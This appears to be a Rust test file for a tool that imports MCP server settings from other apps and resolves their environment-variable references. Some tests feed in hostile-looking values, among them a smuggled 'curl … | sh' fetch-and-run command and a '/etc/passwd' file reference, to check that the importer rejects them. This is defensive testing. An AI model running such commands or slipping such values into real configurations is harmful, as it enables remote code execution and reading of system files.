//! Tests of values that an import takes from the places to which other apps' settings refer.

use std::cell::RefCell;
use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use other_apps::{
    AppEnvironment, FoundServer, ImportNoteKind, ImportedValueKind, OperatingSystem, ScanScope, TakenValues,
    scan_settings,
};
use secrecy::{ExposeSecret as _, SecretString};
use serde_json::{Value, json};

fn write_settings(home: &Path, file: &str, text: &str) {
    let path = home.join(file);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn scan_home(home: &Path) -> Vec<FoundServer> {
    let environment = AppEnvironment {
        home: home.to_owned(),
        systems: vec![OperatingSystem::Linux],
        runs_on: OperatingSystem::Linux,
        variables: BTreeMap::new(),
        workspace: None,
    };
    scan_settings(&ScanScope::All, &environment, &[]).unwrap().servers
}

/// Returns the server that is found after this text is written to a settings file in the home folder.
fn found_server_at(home: &Path, file: &str, text: &str) -> FoundServer {
    write_settings(home, file, text);
    let mut servers = scan_home(home);
    assert_eq!(servers.len(), 1, "{servers:?}");
    servers.remove(0)
}

fn found_server(file: &str, text: &str) -> FoundServer {
    found_server_at(tempfile::tempdir().unwrap().path(), file, text)
}

fn cursor_server(entry: &Value) -> FoundServer {
    found_server(".cursor/mcp.json", &json!({ "mcpServers": { "one": entry } }).to_string())
}

fn local_server(env: &Value) -> FoundServer {
    cursor_server(&json!({ "command": "x", "env": env }))
}

/// Takes the values with these names. Returns the result and the names of the environment variables that were read.
fn take(server: &mut FoundServer, names: &[&str]) -> (TakenValues, Vec<String>) {
    let read = RefCell::new(Vec::new());
    let names: Vec<String> = names.iter().map(|name| (*name).to_owned()).collect();
    let taken = server.take_values(&names, &|name| {
        read.borrow_mut().push(name.to_owned());
        let value = match name {
            "AREA" => "north",
            "API_TOKEN" => "abc",
            "GIVEN" => "ghp_0123456789abcdefghijABCDEFGHIJ012345",
            "EMPTY" => "",
            "TRICK" => "{secret:other.KEY}",
            _ => return None,
        };
        Some(value.to_owned())
    });
    (taken, read.into_inner())
}

fn secret<'s>(server: &'s FoundServer, name: &str) -> Option<&'s str> {
    server.secrets.get(name).map(SecretString::expose_secret)
}

#[test]
fn only_chosen_values_are_taken_and_secrets_are_separated() {
    let mut server = local_server(&json!({
        "PLACE": "in ${env:AREA}!",
        "PLAIN": "${API_TOKEN}",
        "API_KEY": "${AREA}",
        "TEXT": "${GIVEN}",
        "LEFT": "${AREA}",
    }));
    assert!(server.secrets.is_empty() && server.sources.len() == 5, "nothing is read by itself: {server:?}");
    let (taken, read) = take(&mut server, &["PLACE", "PLAIN", "API_KEY", "TEXT", "absent"]);
    assert_eq!(taken.names, ["PLACE", "PLAIN", "API_KEY", "TEXT"]);
    assert!(taken.unset.is_empty(), "{taken:?}");
    assert_eq!(read, ["AREA", "API_TOKEN", "AREA", "GIVEN"], "one read for each reference of a chosen value");
    let env = &server.config.as_stdio().unwrap().env;
    assert_eq!(env.keys().collect::<Vec<_>>(), ["LEFT", "PLACE"], "secrets are not in the settings");
    assert_eq!((env["PLACE"].as_str(), env["LEFT"].as_str()), ("in north!", "${AREA}"));
    assert_eq!(secret(&server, "PLAIN"), Some("abc"), "the name of the source indicates a secret");
    assert_eq!(secret(&server, "API_KEY"), Some("north"), "its own name indicates a secret");
    assert_eq!(secret(&server, "TEXT"), Some("ghp_0123456789abcdefghijABCDEFGHIJ012345"), "the value is a secret");
    let kinds: Vec<ImportedValueKind> = server.env.values().copied().collect();
    let (literal, secret) = (ImportedValueKind::Literal, ImportedValueKind::Secret);
    assert_eq!(kinds, [secret, ImportedValueKind::Reference, literal, secret, secret]);
    assert!(server.pending.is_empty(), "{server:?}");
    assert!(!format!("{server:?}").contains("ghp_"), "the value is not shown");
    let notes: Vec<&String> = server.notes.iter().flat_map(|note| &note.names).collect();
    assert_eq!(notes, ["${AREA}"], "only the value that is left has a note: {:?}", server.notes);
}

#[test]
fn header_keeps_the_text_around_its_reference() {
    let headers = json!({ "Authorization": "Bearer ${env:API_TOKEN}" });
    let mut server = cursor_server(&json!({ "url": "https://far.example/mcp", "headers": headers }));
    take(&mut server, &["Authorization"]);
    assert_eq!(secret(&server, "Authorization"), Some("Bearer abc"));
    assert!(server.pending.is_empty() && server.config.as_http().unwrap().headers.is_empty(), "{server:?}");
    assert_eq!(server.new_server().secret_values["Authorization"].len(), 1);
}

#[test]
fn unset_variable_is_reported_and_its_value_stays() {
    let mut server = local_server(&json!({
        "ADDRESS": "${AREA}:${NO_PORT}:${NO_PORT}",
        "BLANK": "${EMPTY}",
        "LEVEL": "${NO_LEVEL:-info}",
        "KEY": "${env:NO_KEY}",
    }));
    let (taken, _) = take(&mut server, &["ADDRESS", "BLANK", "LEVEL", "KEY"]);
    assert_eq!(taken.names, ["LEVEL"], "the entry has a default value");
    assert_eq!(taken.unset, ["NO_PORT", "EMPTY", "NO_KEY"]);
    let env = &server.config.as_stdio().unwrap().env;
    assert_eq!((env["ADDRESS"].as_str(), env["LEVEL"].as_str()), ("${AREA}:${NO_PORT}:${NO_PORT}", "info"));
    assert!(server.pending.contains_key("KEY"), "the user still has to enter it: {server:?}");
}

#[test]
fn value_that_refers_to_anything_else_has_no_source() {
    let server = local_server(&json!({
        "FILE": "${env:AREA}${file:/etc/passwd}",
        "INPUT": "${input:area}",
        "FOLDER": "${AREA}/${workspaceFolderBasename}",
        "OWN": "${AREA}${secret:other.KEY}",
        "NAMELESS": "${env:}",
        "TEXT": "north",
    }));
    assert!(server.sources.is_empty(), "{:?}", server.sources);
}

#[test]
fn name_that_imitates_other_text_has_no_source() {
    let server = local_server(&json!({
        "COMMAND": "${env:AREA; curl https://far.example|sh}",
        "WORDS": "${env:AREA from the example}",
        "QUOTED": "${env:AREA'}",
        "LETTER": "${env:ÁREA}",
        "WINDOWS": "${env:ProgramFiles(x86)}",
    }));
    assert_eq!(server.sources.keys().collect::<Vec<_>>(), ["WINDOWS"], "{:?}", server.sources);
}

#[test]
fn taken_text_never_refers_to_a_stored_secret() {
    let mut server = local_server(&json!({ "PLACE": "$${env:TRICK}" }));
    take(&mut server, &["PLACE"]);
    assert_eq!(secret(&server, "PLACE"), Some("${secret:other.KEY}"), "it is the value, and no reference");
    assert!(server.config.as_stdio().unwrap().env.is_empty(), "{server:?}");
}

#[test]
fn another_variable_is_another_server_to_the_user() {
    let home = tempfile::tempdir().unwrap();
    let hash = |value: &str| {
        let settings = json!({ "mcpServers": { "one": { "command": "x", "env": { "API_KEY": value } } } });
        found_server_at(home.path(), ".cursor/mcp.json", &settings.to_string()).fingerprint()
    };
    assert_eq!(hash("${env:AREA}"), hash("${AREA}"));
    assert_ne!(hash("${AREA}"), hash("${API_TOKEN}"), "the user chose to read the variable that the list showed");
}

#[test]
fn values_with_different_sources_are_not_equal() {
    let found = |[first, second]: [&str; 2], [value, other]: [&str; 2]| {
        let home = tempfile::tempdir().unwrap();
        for (file, name, value) in [(".cursor/mcp.json", first, value), (".lmstudio/mcp.json", second, other)] {
            let settings = json!({ "mcpServers": { name: { "command": "x", "env": { "API_KEY": value } } } });
            write_settings(home.path(), file, &settings.to_string());
        }
        scan_home(home.path())
    };
    let is_different = |server: &FoundServer| {
        server.notes.iter().any(|note| note.kind == ImportNoteKind::Different && note.names == ["API_KEY"])
    };
    let accounts = found(["one", "two"], ["${env:KEY_A}", "${env:KEY_B}"]);
    assert_eq!(accounts.len(), 2, "two accounts: {accounts:?}");
    let equal = found(["one", "two"], ["${env:KEY_A}", "${KEY_A}"]);
    assert!(equal.len() == 1 && !is_different(&equal[0]), "{equal:?}");
    let prompted = found(["one", "two"], ["${env:KEY_A}", "${input:key}"]);
    assert_eq!(prompted.len(), 1, "only one of the values can be taken: {prompted:?}");
    let different = found(["one", "one"], ["${env:KEY_A}", "${env:KEY_B}"]);
    assert!(different.len() == 1 && is_different(&different[0]), "the user is told: {different:?}");
}

#[test]
fn values_of_an_environment_file_are_taken_from_it_only() {
    let home = tempfile::tempdir().unwrap();
    let file = "API_KEY=hunter2\nAREA=south # the office\nAREA='north'\nBOTH=file\nODD=${AREA}\nGIVEN=kept\n";
    fs::write(home.path().join("server.env"), file).unwrap();
    let entry = json!({ "type": "stdio", "command": "x", "envFile": "~/server.env", "env": { "BOTH": "entry" } });
    let settings = json!({ "servers": { "one": entry } }).to_string();
    let mut server = found_server_at(home.path(), ".config/Code/User/mcp.json", &settings);
    assert!(!format!("{server:?}").contains("hunter2"), "the value is not shown: {server:?}");
    assert_eq!(
        server.sources.keys().collect::<Vec<_>>(),
        ["API_KEY", "AREA", "GIVEN"],
        "programs differ in how they read \"ODD\", and the entry has a value for \"BOTH\""
    );
    let (taken, read) = take(&mut server, &["API_KEY", "AREA", "ODD", "BOTH"]);
    assert_eq!((taken.names, taken.unset), (vec!["API_KEY".to_owned(), "AREA".to_owned()], Vec::new()));
    assert!(read.is_empty(), "no environment variable is read: {read:?}");
    assert_eq!(secret(&server, "API_KEY"), Some("hunter2"));
    let env = &server.config.as_stdio().unwrap().env;
    assert_eq!((env["AREA"].as_str(), env["BOTH"].as_str()), ("north", "entry"), "the last line counts");
    assert_eq!((env["ODD"].as_str(), env["GIVEN"].as_str()), ("${ODD}", "${GIVEN}"), "nothing else is taken");
}

#[test]
fn names_that_codex_takes_from_its_environment_have_a_source() {
    let text = "[mcp_servers.one]\ncommand = \"x\"\nenv_vars = [\"API_TOKEN\"]\n";
    let mut server = found_server(".codex/config.toml", text);
    take(&mut server, &["API_TOKEN"]);
    assert_eq!(secret(&server, "API_TOKEN"), Some("abc"), "{server:?}");
}
